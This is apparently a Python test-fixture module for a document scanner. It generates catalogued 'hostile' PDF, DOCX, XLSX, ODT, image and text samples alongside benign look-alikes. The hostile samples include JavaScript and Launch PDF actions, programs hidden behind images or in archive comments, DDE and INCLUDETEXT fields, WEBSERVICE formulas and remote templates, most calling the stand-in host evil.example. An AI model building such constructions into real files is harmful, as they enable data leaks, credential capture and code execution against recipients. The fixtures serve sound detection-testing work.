"""Originals that reach out by ways seldom taken, and ordinary ones that look a little like them."""

from __future__ import annotations

import base64
import io
import struct
import zipfile
import zlib
from collections.abc import Callable

import filemakers as make
from hostilecorners import _W, _body, _book, _field, _formula, _odt, _parts, _word
from hostileoriginals import drawing, in_body

Maker = Callable[[], bytes]
_EVIL = "https://evil.example/a"
_SCRIPT = "/OpenAction << /S /JavaScript /JS (x) >>"


def _mark(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def _said(words: str, element: str = "instrText") -> str:
    return f"<w:r><w:{element}>{words}</w:{element}></w:r>"


def _field_showing(outer: str, shown: str) -> Maker:
    """A field whose instruction goes on with what another field shows."""
    inner = _mark("begin") + _said("REF a") + _mark("separate") + _said(shown, "t") + _mark("end")
    whole = _mark("begin") + _said(outer) + inner + _mark("separate") + _mark("end")
    return lambda: in_body(f"<w:p>{whole}</w:p>")


def _drawing(xml: str, before: str = "") -> Maker:
    return _parts(make.docx, {"word/media/a.svg": before + drawing(xml)})


def _relation(kind: str, target: str) -> Maker:
    listed = make.relation(kind, target, "Internal")
    return _parts(make.docx, {"word/_rels/document.xml.rels": listed})


def _base(honest: Maker, address: str) -> Maker:
    return _parts(honest, {
        "docProps/app.xml": f"<Properties><HyperlinkBase>{address}</HyperlinkBase></Properties>"
    })  # fmt: skip


def _cell_and_link(words: str) -> Maker:
    return _book({
        "xl/worksheets/sheet1.xml": f'<worksheet><c t="inlineStr"><is>{words}</is></c>'
        '<f>HYPERLINK(A1,"Xem")</f></worksheet>'
    })  # fmt: skip


def _map(xml: str) -> Maker:
    return _book({"xl/xmlMaps.xml": f"<MapInfo>{xml}</MapInfo>"})


def _old_drawing(xml: str) -> Maker:
    return _book({"xl/drawings/vmlDrawing1.vml": f"<xml {_W}>{xml}</xml>"})


def _written(content: bytes) -> Maker:
    letters = base64.b64encode(content).decode()
    return _odt(f"<draw:image><office:binary-data>{letters}</office:binary-data></draw:image>")


def _inner_formula(formula: str) -> Maker:
    cell = f'<a xmlns:table="urn:t"><table:table-cell table:formula="{formula}"/></a>'
    return lambda: make.odt(more={"Object 1/content.xml": cell})


def _template(address: str) -> Maker:
    xml = f'<a xmlns:x="urn:x"><template x:href="{address}"/></a>'
    return lambda: make.odt(more={"meta.xml": xml})


def _setting(name: str, words: str) -> Maker:
    item = f'<config:config-item config:name="{name}">{words}</config:config-item>'
    return lambda: make.odt(more={"settings.xml": f'<a xmlns:config="urn:c">{item}</a>'})


def _object_behind(body: bytes, before: bytes) -> Maker:
    """A PDF with one more object, which no table leads to."""

    def made() -> bytes:
        whole = make.pdf()
        start = whole.rindex(b"xref\n0 1")
        at = start if before == b"xref" else whole.rindex(before)
        out = whole[:at] + body + whole[at:]
        moved = start + len(body) * (at == start)
        return out.replace(b"startxref\n%d" % start, b"startxref\n%d" % moved)

    return made


def _unlisted_stream() -> Maker:
    packed = zlib.compress(f"1 0 << /Type /Catalog /Pages 2 0 R {_SCRIPT} >>".encode())
    head = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>" % len(packed)
    body = b"900 0 obj\n" + head + b"\nstream\n" + packed + b"\nendstream\nendobj\n"
    return _object_behind(body, b"xref")


def _unlisted_inside() -> bytes:
    """A PDF with a listed stream of objects, in which stands one that no table leads to."""
    held = f"1 0 << /Type /Catalog /Pages 2 0 R {_SCRIPT} >>"
    head = f"<< /Type /ObjStm /N 1 /First 4 /Length {len(held)} >>"
    return make.pdf(objects=[f"{head}\nstream\n{held}\nendstream"])


def _unlisted_part() -> bytes:
    """A zip file with a part that its list leaves out."""
    whole, other = make.docx(), io.BytesIO()
    with zipfile.ZipFile(other, "w") as archive:
        archive.writestr("word/header9.xml", "<a/>")
    hidden = other.getvalue().partition(b"PK\x01\x02")[0]
    listed, end = whole.index(b"PK\x01\x02"), whole.rindex(b"PK\x05\x06")
    place = struct.pack("<I", listed + len(hidden))
    return whole[:listed] + hidden + whole[listed : end + 16] + place + whole[end + 20 :]


_CATALOGUE = f"1 0 obj\n<< /Type /Catalog /Pages 2 0 R {_SCRIPT} >>\nendobj\n".encode()
_WINDOWS_PROGRAM = b"MZ".ljust(60, b"\0") + struct.pack("<I", 200) + bytes(136) + b"PE\0\0L\1"
_LINUX_PROGRAM = b"\x7fELF\2\1\1" + bytes(99)


def _remarked(content: bytes, remark: bytes) -> bytes:
    """A zip file with a remark at its end."""
    return content[:-2] + struct.pack("<H", len(remark)) + remark


def _lettered(letter: str) -> Maker:
    return f"Kế hoạch\nĐạt {letter}90%\n".encode


HOSTILE_WAYS: dict[str, tuple[str, Maker]] = {
    "pdf: catalogue that no table lists": (".pdf", _object_behind(_CATALOGUE, b"startxref")),
    "pdf: stream of objects that no table lists": (".pdf", _unlisted_stream()),
    "pdf: object in a stream that no table lists": (".pdf", _unlisted_inside),
    "docx: part that no list names": (".docx", _unlisted_part),
    # Programs that stand where no program looks first
    "docx: program in the remark of the archive": (
        ".docx", lambda: _remarked(make.docx(), _WINDOWS_PROGRAM)
    ),
    "xlsx: program behind settings of a printer": (".xlsx", _parts(make.xlsx, {
        "xl/printerSettings/printerSettings1.bin": bytes(200) + _WINDOWS_PROGRAM
    })),
    "odt: program behind a picture": (
        ".odt", lambda: make.odt(more={"Pictures/a.png": make.picture("PNG") + _LINUX_PROGRAM})
    ),
    "jpeg: program behind it": (".jpg", lambda: make.picture("JPEG") + _WINDOWS_PROGRAM),
    "png: program behind it": (".png", lambda: make.picture("PNG") + _LINUX_PROGRAM),
    "tiff: program behind it": (".tif", lambda: make.picture("TIFF") + _WINDOWS_PROGRAM),
    "pdf: program in a stream that nothing leads to": (".pdf", lambda: make.pdf(objects=[
        f"<< /Length 300 >>\nstream\n{_WINDOWS_PROGRAM.decode('latin-1')}\nendstream"
    ])),
    # Dictionaries that programs read otherwise
    "pdf: two first actions": (
        ".pdf", lambda: make.pdf(catalogue=f"/OpenAction [10 0 R] {_SCRIPT}")
    ),
    "pdf: two actions in codes": (".pdf", lambda: make.pdf(objects=[
        "<< /A << /S /URI /URI (https://a.vn) /#53 /Launch >> >>"
    ])),
    "pdf: two addresses": (".pdf", lambda: make.pdf(objects=[
        "<< /S /URI /Next [ 1 0 R ] /URI (a \\) b) /URI (file:///C:/calc.exe) >>"
    ])),
    "pdf: two actions in a packed object": (".pdf", lambda: make.with_object_stream(
        "/X 7 0 R", "<< /A << /S /URI /URI (https://a.vn) /S /Launch >> >>"
    )),
    "pdf: site on opening": (".pdf", lambda: make.pdf(
        catalogue=f"/OpenAction << /S /URI /URI ({_EVIL}) >>"
    )),
    "pdf: site on a page": (".pdf", lambda: make.pdf(
        catalogue=f"/AA << /O << /S /URI /URI ({_EVIL}) >> >>"
    )),
    "xlsx: macro of a control": (
        ".xlsx", _book({"xl/ctrlProps/ctrlProp1.xml": '<a fmlaMacro="[0]!Evil"/>'})
    ),
    "xlsx: function of another file": (".xlsx", _formula("'c:\\a.xla'!Evil()")),
    # Texts
    **{f"txt: letter {ord(one):04X}": (".txt", _lettered(one)) for one in (
        "\b", "\x1b", "\x7f", "\x9b", "\u202b", "\u202d", "\u202e", "\u2067"
    )},
    "txt: longer than any document": (".txt", lambda: "Đạt 90%. ".encode() * 400_000),
    "odt: macro under the name of a list": (".odt", lambda: make.odt(more={
        "Basic/Standard/script-lb.xml": '<a:module xmlns:a="urn:a">Sub Main</a:module>'
    })),
    # Links
    "docx: link of a rounded shape": (
        ".docx", _word("header1.xml", "<v:roundrect href='file:///C:/Windows/calc.exe'/>")
    ),
    "docx: link of a line": (".docx", _word("header1.xml", "<v:line href='javascript:a'/>")),
    "xlsx: link of a line": (".xlsx", _old_drawing("<v:line href='file:///C:/calc.exe'></v:line>")),
    "docx: host before all links": (".docx", _base(make.docx, "file://evil.example/s/")),
    "docx: share before all links": (".docx", _base(make.docx, "\\\\evil.example\\s\\")),
    "xlsx: disk before all links": (".xlsx", _base(make.xlsx, "file&#58;///C:/")),
    "docx: picture through a link": (".docx", lambda: make.changed(
        in_body('<a:blip xmlns:a="urn:a" xmlns:r="urn:r" r:link="r1"/>'),
        {"word/_rels/document.xml.rels": make.relation("hyperlink", f"{_EVIL}.png")},
    )),
    "docx: share behind a disk": (".docx", _relation("image", "file:///\\\\evil.example\\s\\a")),
    "docx: picture of a share in codes": (
        ".docx", _relation("image", "%5C%5Cevil.example%5Cs%5Ca.png")
    ),
    "docx: another file in capitals": (".docx", _relation("AFCHUNK", "a.html")),
    # Fields
    "docx: name of a field from a field": (".docx", _field_showing(" ", f'INCLUDETEXT "{_EVIL}"')),
    "docx: link from a field": (".docx", _field_showing("HYPERLINK ", '"file:///C:/calc.exe"')),
    "docx: field that was deleted": (".docx", _body(
        f"<w:p>{_mark('begin')}{_said('DDEAUTO a b', 'delInstrText')}{_mark('end')}</w:p>"
    )),
    "docx: field behind a hard blank": (".docx", _body(_field(f'\u00a0INCLUDETEXT "{_EVIL}"'))),
    "docx: field in wide letters": (".docx", _body(_field(f'ＩＮＣＬＵＤＥＴＥＸＴ "{_EVIL}"'))),
    "docx: field behind what nobody sees": (".docx", _body(_field(f'\u200bRD "{_EVIL}"'))),
    "docx: macro on entering a field": (".docx", _body('<w:entryMacro w:val="Evil"/>')),
    "docx: macro on leaving a field": (".docx", _body('<w:exitMacro w:val="Evil"/>')),
    # Files in files
    "docx: document among pictures": (".docx", _parts(make.docx, {"word/media/a": make.docx()})),
    "docx: archive among pictures": (".docx", _parts(make.docx, {
        "word/media/a.bin": b"7z\xbc\xaf\x27\x1c"
    })),
    "docx: text with objects": (".docx", _parts(make.docx, {"word/a.rtf": "{\\rtf1{\\object}}"})),
    "docx: kind in capitals": (".docx", lambda: make.replaced(
        make.docx(), "[Content_Types].xml", "</Types>",
        '<Override PartName="/a" ContentType="application/vnd.ms-office.VBAPROJECT"/></Types>',
    )),
    "odt: object of old Office": (".odt", lambda: make.odt(more={"Object 1": make.OLE})),
    "odt: earlier version": (".odt", lambda: make.odt(more={"Versions/Version1": make.odt()})),
    "odt: drawing in letters": (
        ".odt", _written(drawing(f'<image xlink:href="{_EVIL}"/>').encode())
    ),
    "odt: program in letters": (".odt", _written(b"MZ\x90\0")),
    # Drawings
    "docx: style sheet of a drawing": (".docx", _drawing(
        "<g/>", f'<?xml-stylesheet href="{_EVIL}.css"?>'
    )),
    "docx: fill in codes": (".docx", _drawing(f'<g style="fill:u\\72l({_EVIL}#b)"/>')),
    "docx: style in codes": (".docx", _drawing(f'<style>@\\69mport "{_EVIL}";</style>')),
    "docx: choice of pictures": (".docx", _drawing(f'<g style=\'a:image-set("{_EVIL}" 1x)\'/>')),
    "docx: page in a drawing": (".docx", _drawing(
        f'<h:meta xmlns:h="http://www.w3.org/1999/xhtml" content="0;url={_EVIL}"/>'
    )),
    "docx: click that is told": (".docx", _drawing(f'<a href="#a" ping="{_EVIL}"/>')),
    # Workbooks
    "xlsx: service behind a quote in a sheet": (
        ".xlsx", _formula(f"'a\"b'!A1&WEBSERVICE(\"{_EVIL}\")")
    ),
    "xlsx: service behind a quote in a column": (
        ".xlsx", _formula(f'Bang1[a"b]&WEBSERVICE("{_EVIL}")')
    ),
    "xlsx: link behind a quote in a sheet": (
        ".xlsx", _formula("HYPERLINK('a\"b'!A1&\"file:///C:/calc.exe\",\"Xem\")")
    ),
    "xlsx: service given to a function": (".xlsx", _formula("MAP(A1:A9,_xleta.WEBSERVICE)")),
    "xlsx: picture given to a function": (".xlsx", _formula("MAP(A1:A9,_xleta.IMAGE)")),
    "xlsx: service under another name": (".xlsx", _formula("LET(_xlpm.f,WEBSERVICE,_xlpm.f(A1))")),
    "xlsx: files of a share": (".xlsx", _formula('FILES("\\\\evil.example\\s\\*")')),
    "xlsx: formula in words": (".xlsx", _formula("EVALUATE(A1)")),
    "xlsx: link by a cell": (".xlsx", _cell_and_link("<t>file:///C:/Windows/calc.exe</t>")),
    "xlsx: link by a cell of runs": (
        ".xlsx", _cell_and_link("<r><t>\\\\</t></r><r><t>evil.example\\s\\a.exe</t></r>")
    ),
    "xlsx: data of a file": (
        ".xlsx", _map(f'<Map><DataBinding FileBindingName="{_EVIL}.xml"/></Map>')
    ),
    "xlsx: rules of a host": (".xlsx", _map(f'<Schema SchemaRef="{_EVIL}.xsd"/>')),
    "xlsx: picture in a style": (
        ".xlsx", _old_drawing(f"<style><v:imagedata src='{_EVIL}.png'/></style>")
    ),
    # OpenDocument
    "odt: picture of a button": (".odt", _odt(f'<form:button form:image-data="{_EVIL}.png"/>')),
    "odt: template of a share in codes": (".odt", _template("file:///%5C%5Cevil.example/a.ott")),
    "odt: template of a share behind a disk": (".odt", _template("file:///\\\\evil.example\\a.ott")),
    "odt: template of a host in codes": (".odt", _template("file:%2F%2Fevil.example/a.ott")),
    "odt: service in an object": (".odt", _inner_formula("of:=WEBSERVICE(&quot;a&quot;)")),
    "odt: other table in an object": (".odt", _inner_formula("of:=['file:///C:/a.ods'#$S.A1]")),
    "odt: conversation in an object": (".odt", _inner_formula("of:=DDE(&quot;a&quot;;1;2)")),
    "odt: address of a button": (".odt", _odt(
        '<form:property form:property-name="TargetURL" office:string-value="file:///C:/calc.exe"/>'
    )),
    "odt: palette of a share": (".odt", _setting("BitmapTableURL", "file&#58;//evil.example/a")),
    "odt: picture above in other strokes": (
        ".odt", _odt('<draw:image xlink:href="..\\..\\a.png"/>')
    ),
}  # fmt: skip
ORDINARY_WAYS: dict[str, tuple[str, Maker]] = {
    "pdf: words about objects": (".pdf", lambda: make.pdf(["No /JavaScript, 1 0 obj is a word"])),
    "pdf: a language twice, and one key in each of two": (".pdf", lambda: make.pdf(
        catalogue="/Lang (vi) /Lang (vi (/S a) /S (b)) "
        "/X [ << /S /URI /URI (a) >> << /S /GoTo /D [ 1 /Fit ] >> ]"
    )),
    "pdf: site on a click": (".pdf", lambda: make.pdf(
        objects=["<< /AA << /U << /S /URI /URI (https://a.gov.vn) >> >> >>"]
    )),
    "pdf: mark of UTF-8 before it": (".pdf", lambda: b"\xef\xbb\xbf\r\n" + make.pdf()),
    "png: words of a program behind it": (
        ".png", lambda: make.picture("PNG") + b"MZ".ljust(60) + bytes(99) + b"PE\0\0\x7fELF"
    ),
    "jpeg: notes of a telephone behind it": (
        ".jpg", lambda: make.picture("JPEG") + b"\0\0\1\n\x0e\0\0\0Image_UTC_DataSEFHk\0\0\0SEFT"
    ),
    "txt: marks of other programs": (
        ".txt", _lettered("\ufeff\u200b\u200e\u202a\u202c\x07\x0b\x1f")
    ),
    "odt: list of no macros": (".odt", lambda: make.odt(more={
        "Basic/script-lc.xml": '<a:libraries xmlns:a="urn:a"><a:library a:name="Standard"/>'
        "</a:libraries>",
        "Basic/Standard/script-lb.xml": '<a:library xmlns:a="urn:a" a:name="Standard"/>',
        "Dialogs/dialog-lc.xml": '<a:libraries xmlns:a="urn:a"/>',
    })),
    "docx: sum of a field": (".docx", _field_showing("= ", "2")),
    "docx: web link of a shape": (
        ".docx", _word("header1.xml", "<v:roundrect href='https://chinhphu.vn'/>")
    ),
    "docx: site before all links": (".docx", _base(make.docx, "https://xa.gov.vn/")),
    "docx: drawing of Inkscape": (".docx", _drawing(
        '<metadata><r:RDF xmlns:r="urn:r"/></metadata><style>.a{font:"Be Vietnam"}</style>'
    )),
    "docx: picture of a Mac": (".docx", _parts(make.docx, {"word/media/a.pdf": make.pdf()})),
    "xlsx: quotes in the name of a sheet": (
        ".xlsx", _formula("SUM('Biểu \"A\"'!A1:A9)&\" (IMAGE (1))\"")
    ),
    "xlsx: sheet that is called like a function": (".xlsx", _formula("SUM('IMAGE (1)'!A1:A9)")),
    "xlsx: web link by a cell": (
        ".xlsx", _cell_and_link("<t>https://chinhphu.vn</t></is></c><c><is><t>Email: a@b.vn</t>")
    ),
    "xlsx: map without files": (".xlsx", _map('<Schema ID="S" Namespace="http://a.gov.vn/ns"/>')),
    "odt: areas of a picture": (
        ".odt", _odt('<draw:area-rectangle xlink:href="https://chinhphu.vn/"/>')
    ),
    "odt: sum in a table": (".odt", _odt('<text:p text:formula="ooow:&lt;A1&gt;|&lt;B1&gt;"/>')),
    "odt: sum in an object": (".odt", _inner_formula("of:=SUM([.A1:.A9])")),
    "odt: name of a printer": (".odt", _setting("PrinterName", "HP: Văn phòng")),
    "odt: palette of this machine": (".odt", _setting("DashTableURL", "file:///C:/share/palette/")),
    "odt: picture in letters": (".odt", _written(make.picture("PNG"))),
}  # fmt: skip
